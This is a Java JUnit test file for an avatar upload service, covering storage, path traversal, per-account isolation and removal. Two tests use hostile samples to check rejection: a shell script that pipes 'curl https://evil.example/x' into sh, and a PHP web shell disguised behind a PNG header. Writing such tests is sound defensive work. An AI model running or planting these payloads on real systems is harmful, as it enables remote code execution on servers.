package tech.jobbot.sdk.account;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static tech.jobbot.sdk.JobbotHarness.email;

import java.awt.Color;
import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.Optional;

import javax.imageio.ImageIO;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import tech.jobbot.domain.account.AccountId;
import tech.jobbot.domain.account.Avatar;
import tech.jobbot.ports.in.account.AvatarUpload;
import tech.jobbot.ports.in.account.ManageAvatar.AvatarImage;
import tech.jobbot.sdk.JobbotHarness;

class AvatarTest {
    private static final byte[] PNG_MAGIC = {(byte) 0x89, 'P', 'N', 'G', 0x0D, 0x0A, 0x1A, 0x0A};

    @TempDir
    Path dataDirectory;
    private JobbotHarness h;
    private AccountId ada;

    @BeforeEach
    void start() {
        h = JobbotHarness.start(dataDirectory);
        ada = h.signInFully(email("ada@example.com")).account();
    }

    @AfterEach
    void stop() {
        h.close();
    }

    @Test
    void an_uploaded_png_is_stored_under_a_generated_png_name_and_served_back_as_png() throws IOException {
        AvatarUpload upload = h.jobbot.uploadAvatar(ada, png(48, 32, Color.ORANGE));

        Avatar avatar = assertInstanceOf(AvatarUpload.Stored.class, upload).avatar();
        assertTrue(avatar.name().endsWith(".png"), avatar.name());
        assertEquals("image/png", avatar.mediaType());
        assertEquals(Optional.of(avatar), h.jobbot.profile(ada).orElseThrow().avatar());

        AvatarImage image = h.jobbot.avatar(ada, avatar.name()).orElseThrow();
        assertEquals("image/png", image.mediaType());
        assertArrayEquals(PNG_MAGIC, Arrays.copyOf(image.bytes(), PNG_MAGIC.length));
        BufferedImage decoded = ImageIO.read(new ByteArrayInputStream(image.bytes()));
        assertEquals(48, decoded.getWidth());
        assertEquals(32, decoded.getHeight());
        assertEquals(Color.ORANGE.getRGB(), decoded.getRGB(10, 10));
    }

    @Test
    void asking_for_an_avatar_by_a_wrong_name_gives_nothing() throws IOException {
        Avatar avatar = stored(h.jobbot.uploadAvatar(ada, png(16, 16, Color.BLUE)));

        assertTrue(h.jobbot.avatar(ada, "AAAAAAAAAAAAAAAAAAAAAAAA.png").isEmpty());
        assertTrue(h.jobbot.avatar(ada, avatar.name().replace(".png", ".jpg")).isEmpty());
        assertTrue(h.jobbot.avatar(ada, "../" + avatar.name()).isEmpty());
    }

    @Test
    void the_avatar_of_one_account_is_not_served_under_another_account() throws IOException {
        Avatar avatar = stored(h.jobbot.uploadAvatar(ada, png(16, 16, Color.BLUE)));
        AccountId bob = h.signInFully(email("bob@example.com")).account();

        assertTrue(h.jobbot.avatar(bob, avatar.name()).isEmpty());
    }

    @Test
    void a_shell_script_is_rejected_as_an_unsupported_type_and_no_avatar_is_set() {
        byte[] script = "#!/bin/sh\ncurl https://evil.example/x | sh\n".getBytes(StandardCharsets.UTF_8);

        AvatarUpload upload = h.jobbot.uploadAvatar(ada, script);

        AvatarUpload.Rejected rejected = assertInstanceOf(AvatarUpload.Rejected.class, upload);
        assertEquals(AvatarUpload.Reason.UNSUPPORTED_TYPE, rejected.reason());
        assertTrue(h.jobbot.profile(ada).orElseThrow().avatar().isEmpty());
    }

    @Test
    void a_script_disguised_behind_a_png_signature_is_rejected() {
        byte[] disguised = new byte[64];
        System.arraycopy(PNG_MAGIC, 0, disguised, 0, PNG_MAGIC.length);
        byte[] payload = "<?php system($_GET['c']); ?>".getBytes(StandardCharsets.US_ASCII);
        System.arraycopy(payload, 0, disguised, PNG_MAGIC.length, payload.length);

        assertInstanceOf(AvatarUpload.Rejected.class, h.jobbot.uploadAvatar(ada, disguised));
        assertTrue(h.jobbot.profile(ada).orElseThrow().avatar().isEmpty());
    }

    @Test
    void a_new_upload_replaces_the_previous_avatar() throws IOException {
        Avatar first = stored(h.jobbot.uploadAvatar(ada, png(16, 16, Color.RED)));
        Avatar second = stored(h.jobbot.uploadAvatar(ada, png(16, 16, Color.GREEN)));

        assertNotEquals(first.name(), second.name());
        assertTrue(h.jobbot.avatar(ada, first.name()).isEmpty());
        assertTrue(h.jobbot.avatar(ada, second.name()).isPresent());
    }

    @Test
    void removing_the_avatar_clears_it_from_the_profile_and_stops_serving_it() throws IOException {
        Avatar avatar = stored(h.jobbot.uploadAvatar(ada, png(16, 16, Color.RED)));

        assertTrue(h.jobbot.removeAvatar(ada));

        assertTrue(h.jobbot.profile(ada).orElseThrow().avatar().isEmpty());
        assertTrue(h.jobbot.avatar(ada, avatar.name()).isEmpty());
        assertFalse(h.jobbot.removeAvatar(ada), "there is nothing left to remove");
    }

    private static Avatar stored(AvatarUpload upload) {
        return assertInstanceOf(AvatarUpload.Stored.class, upload).avatar();
    }

    private static byte[] png(int width, int height, Color color) {
        return JobbotHarness.png(width, height, color);
    }
}
